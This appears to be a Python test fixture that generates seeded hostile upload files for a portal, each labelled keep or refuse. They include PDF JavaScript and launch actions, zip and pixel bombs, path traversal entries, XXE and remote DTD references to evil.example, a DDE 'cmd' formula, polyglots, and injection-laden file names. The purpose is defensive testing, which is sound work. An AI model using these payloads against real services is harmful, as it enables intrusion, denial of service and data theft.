"""Hostile files made from a seed: what they are called, what they hold, what has to become of them.

`fits` says what the portal must do: keep the file, or refuse it. Whether it does is for the tests.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

MEGABYTE = 1_000_000
LIMIT = 10 * MEGABYTE
"""The limit of the field that all of them are sent to."""
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
WORD_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file with its name; `fits` where it is to be kept."""

    kind: str
    name: str
    content: bytes
    fits: bool

    @property
    def sent_name(self) -> str:
        """The name as browsers write it into the request's part."""
        quoted = self.name.replace('"', "%22")
        return quoted.replace("\r", "%0D").replace("\n", "%0A")


Maker = Callable[[Random], tuple[str, bytes, bool]]


def noise(random: Random, size: int) -> bytes:
    return random.randbytes(size)


def sound_pdf(change: Callable[[Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF of one page, after a change."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change:
        change(pdf)
    made = io.BytesIO()
    pdf.save(made, **saving)
    return made.getvalue()


def archive(parts: dict[str, bytes | str], way: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", way) as container:
        for name, data in parts.items():
            container.writestr(name, data)
    return made.getvalue()


def relations(kind: str, target: str) -> str:
    return (
        f'{HEAD}<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{OFFICE}/{kind}" '
        f'TargetMode="External" Target="{target}"/></Relationships>'
    )


def docx(extra: dict[str, bytes | str] | None = None, head: str = HEAD) -> bytes:
    """A text document, with further parts."""
    body = f'{head}<w:document xmlns:w="{WORD_NAMESPACE}"><w:body/></w:document>'
    types = f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return archive({"[Content_Types].xml": types, "word/document.xml": body} | (extra or {}))


def picture(form: str, random: Random) -> bytes:
    made = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "<script>window.__hit=1</script>"
    Image.new("RGB", (random.randint(8, 64), 32), "teal").save(made, form, exif=exif)
    return made.getvalue()


def png_of(width: int, height: int, rows: bytes) -> bytes:
    """A PNG that says it is as large as that."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def acting(action: Dictionary) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = action

    return sound_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def javascript(random: Random) -> tuple[str, bytes, bool]:
    code = String(f"app.alert({random.random()})")
    if random.random() < 0.5:
        return "skript.pdf", acting(Dictionary(S=Name.JavaScript, JS=code)), False

    def change(pdf: Pdf) -> None:
        action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=code))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))

    return "namen.pdf", sound_pdf(change), False


def launch(random: Random) -> tuple[str, bytes, bool]:
    kind = random.choice([Name.Launch, Name.ImportData, Name.SubmitForm, Name.GoToE])
    return "start.pdf", acting(Dictionary(S=kind, F=String("cmd.exe"))), False


def embedded(random: Random) -> tuple[str, bytes, bool]:
    name, fits = random.choice(
        [("rechnung.xml", True), ("programm.exe", False), ("makro.docm", False), ("x.js", False)]
    )

    def change(pdf: Pdf) -> None:
        pdf.attachments[name] = noise(random, 64)

    return "anhang.pdf", sound_pdf(change), fits


def locked(random: Random) -> tuple[str, bytes, bool]:
    needs_word = random.random() < 0.7
    word = "geheim" if needs_word else ""
    key = pikepdf.Encryption(owner="besitz", user=word)
    return "gesperrt.pdf", sound_pdf(encryption=key), not needs_word


def cut_pdf(random: Random) -> tuple[str, bytes, bool]:
    whole = sound_pdf()
    return "halb.pdf", whole[: random.randint(5, len(whole) // 4)], False


def no_pages(random: Random) -> tuple[str, bytes, bool]:
    return "leer.pdf", b"%PDF-1.7\n" + noise(random, random.randint(0, 400)) + b"\n%%EOF\n", False


def pdf_bomb(random: Random) -> tuple[str, bytes, bool]:
    """Object streams within the limit that unpack to far more."""
    packer = zlib.compressobj(1)
    rows = [packer.compress(b"0" * MEGABYTE) for _ in range(random.randint(250, 400))]
    packed = b"".join((*rows, packer.flush()))
    body = (
        b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode() + b">>stream\n" + packed + b"\nendstream endobj\n"
        b"trailer<</Root 5 0 R>>\n%%EOF\n"
    )  # fmt: skip
    return "bombe.pdf", body, False


def zip_bomb(random: Random) -> tuple[str, bytes, bool]:
    size = random.randint(5, 60) * MEGABYTE
    return "bombe.docx", docx({"word/media/x.xml": b"<x>" + b" " * size + b"</x>"}), False


def nested(random: Random) -> tuple[str, bytes, bool]:
    inner = archive({"a.bin": b"\0" * MEGABYTE})
    for _ in range(random.randint(1, 4)):
        inner = archive({f"{n}.zip": inner for n in range(4)})
    return "puppe.docx", docx({"word/media/inner.zip": inner}), False


def lying_zip(random: Random) -> tuple[str, bytes, bool]:
    """A part that is larger than the list of contents says, or whose check sum is wrong."""
    whole = bytearray(docx({"word/media/x.bmp": noise(random, 4000)}))
    at = whole.rindex(b"PK\x01\x02") + random.choice([16, 24])
    whole[at : at + 4] = struct.pack("<I", 17)
    return "luege.docx", bytes(whole), False


def crowded(_random: Random) -> tuple[str, bytes, bool]:
    return "viele.docx", docx({f"word/media/{n}.png": b"" for n in range(5_001)}), False


def escaping(random: Random) -> tuple[str, bytes, bool]:
    name = random.choice(["../../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.xml", "C:/x.xml"])
    return "ausbruch.docx", docx({name: "<x/>"}), False


def macro(random: Random) -> tuple[str, bytes, bool]:
    part = random.choice(
        ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/embeddings/oleObject1.bin",
         "Basic/Standard/Module1.xml", "word/activeX/activeX1.bin", "word/x.vbs", "Scripts/a.py"]
    )  # fmt: skip
    return "makro.docx", docx({part: noise(random, 99) if part.endswith("n") else "<x/>"}), False


def elsewhere(random: Random) -> tuple[str, bytes, bool]:
    kind, target, fits = random.choice(
        [("attachedTemplate", "https://evil.example/x.dotm", False),
         ("image", "http://evil.example/pixel.png", False),
         ("oleObject", "\\\\evil.example\\share\\x", False),
         ("frame", "file://evil.example/x", False),
         ("attachedTemplate", "mhtml:http://evil.example/x!x", False),
         ("hyperlink", "https://verein.example/", True),
         ("attachedTemplate", "file:///C:/Vorlagen/Normal.dotm", True)]
    )  # fmt: skip
    return "fern.docx", docx({"word/_rels/document.xml.rels": relations(kind, target)}), fits


def entities(random: Random) -> tuple[str, bytes, bool]:
    bad = random.choice(
        ['<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
         '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
         '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>']
    )  # fmt: skip
    return "wesen.docx", docx(head=HEAD + bad), False


def broken_markup(_random: Random) -> tuple[str, bytes, bool]:
    return "offen.docx", docx({"word/styles.xml": "<w:styles><x></w:styles>"}), False


def cut_docx(random: Random) -> tuple[str, bytes, bool]:
    whole = docx({"word/media/x.bmp": noise(random, 3000)})
    return "halb.docx", whole[: random.randint(4, len(whole) - 40)], False


def spoofed(random: Random) -> tuple[str, bytes, bool]:
    content = random.choice(
        [b"MZ\x90\x00" + noise(random, 200), b"\x7fELF" + noise(random, 200), b"#!/bin/sh\n",
         b"<html><script>window.__hit=1</script></html>", b"<svg onload='window.__hit=1'/>",
         b"{\\rtf1 x}", b"GIF89a" + noise(random, 50), b"Rar!\x1a\x07" + noise(random, 50),
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(random, 600), picture("PNG", random)]
    )  # fmt: skip
    return random.choice(["rechnung.pdf", "brief.docx", "tabelle.xlsx", "bild.jpg"]), content, False


def unwanted_kind(random: Random) -> tuple[str, bytes, bool]:
    kinds = "exe svg html htm js docm xlsm zip hta lnk scr bat iso xml swf php jsp eml pdf.exe"
    ending = random.choice([*kinds.split(), "pdf%00"])
    content = b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.__hit=1</script></svg>"
    return f"satzung.{ending}", content, False


def both_kinds(random: Random) -> tuple[str, bytes, bool]:
    """Two files in one: what one program opens as a document is an archive for the next."""
    second = archive({"x.js": "window.__hit=1"})
    name, content = random.choice(
        [("doppelt.pdf", sound_pdf() + second), ("doppelt.png", picture("PNG", random) + second),
         ("doppelt.jpg", picture("JPEG", random) + second), ("doppelt.docx", b"MZ\x90\0" + docx()),
         ("doppelt.docx", b"%PDF-1.7\n" + docx())]
    )  # fmt: skip
    return name, content, False


def pixel_bomb(random: Random) -> tuple[str, bytes, bool]:
    side = random.randint(20_000, 60_000)
    return "riesig.png", png_of(side, side, zlib.compress(b"\0" * 4096)), False


def cut_picture(random: Random) -> tuple[str, bytes, bool]:
    made = io.BytesIO()
    Image.effect_noise((90, 90), 90).save(made, "PNG")
    return "halb.png", made.getvalue()[: random.randint(60, 3000)], False


def with_exif(random: Random) -> tuple[str, bytes, bool]:
    form = random.choice(["PNG", "JPEG"])
    return f"foto.{'jpg' if form == 'JPEG' else 'png'}", picture(form, random), True


def edges(random: Random) -> tuple[str, bytes, bool]:
    size, fits = random.choice([(0, False), (LIMIT, True), (LIMIT + 1, False)])
    if not size:
        return "nichts.pdf", b"", False
    whole = sound_pdf()
    return "grenze.pdf", whole + b"\n" * (size - len(whole)), fits


def table(random: Random) -> tuple[str, bytes, bool]:
    """Formulas in a kind of file that the field does not take, and as a sheet that is none."""
    rows = b"=cmd|'/c calc'!A1;2\n3;4\n"
    return random.choice(["werte.csv", "werte.xlsx", "werte.ods"]), rows, False


def odd_name(random: Random) -> tuple[str, bytes, bool]:
    stem = random.choice(
        ["../../../../tmp/x", "..\\..\\x", "C:\\Windows\\x",
         "/etc/passwd", "a\x00b", "rechnung\u202efdp",
         "x" * 300, "CON", "nul", "LPT1.x", "👩‍👩‍👧‍👦 Familie", "a\"b'c",
         "Zeile\r\nSet-Cookie: x=1",
         "a;b=c", "%2e%2e%2f", "\u200b", "ä" * 90, "é" * 70, "<img src=x onerror=window.__hit=1>",
         "{{7*7}}", "$(id)", "`id`", "a\u2028b", "a\u0085b", "a\ufeffb", ". . .", " ", "-rf",
         "~", "ﬀﬁ①"]
    )  # fmt: skip
    return f"{stem}.pdf", sound_pdf(), True


def markup_in_pdf(random: Random) -> tuple[str, bytes, bool]:
    """A PDF whose properties are markup: kept, and never shown by the browser."""

    def change(pdf: Pdf) -> None:
        pdf.docinfo[Name.Title] = String(f"<script>window.__hit={random.random()}</script>")

    return "eigenschaften.pdf", sound_pdf(change), True


MAKERS: tuple[Maker, ...] = (
    javascript, launch, embedded, locked, cut_pdf, no_pages, pdf_bomb, zip_bomb, nested, lying_zip,
    crowded, escaping, macro, elsewhere, entities, broken_markup, cut_docx, spoofed, unwanted_kind,
    both_kinds, pixel_bomb, cut_picture, with_exif, edges, table, odd_name, odd_name, odd_name,
    markup_in_pdf,
)  # fmt: skip


def hostile_files(seed: int, count: int) -> Iterator[HostileFile]:
    """So many files, of every kind in turn."""
    random = Random(seed)
    for number in range(count):
        maker = MAKERS[number % len(MAKERS)]
        name, content, fits = maker(random)
        yield HostileFile(maker.__name__, name, content, fits)
